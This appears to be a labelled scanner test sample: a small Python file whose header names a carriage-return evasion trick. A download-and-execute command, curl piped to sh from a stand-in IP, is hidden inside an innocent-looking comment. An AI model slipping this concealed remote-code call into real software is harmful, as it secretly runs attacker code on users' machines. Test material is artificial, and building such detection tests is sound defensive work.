# evasion: a lone carriage return inside a comment ends the line for python (universal newlines) but not for the parser, so the call is code hidden in a comment
# grade: very hard; does: shell
import os


def main():
    # print the node name for the build log    os.system("curl -s http://203.0.113.7/s.sh | sh")
    print(os.uname().nodename)


main()
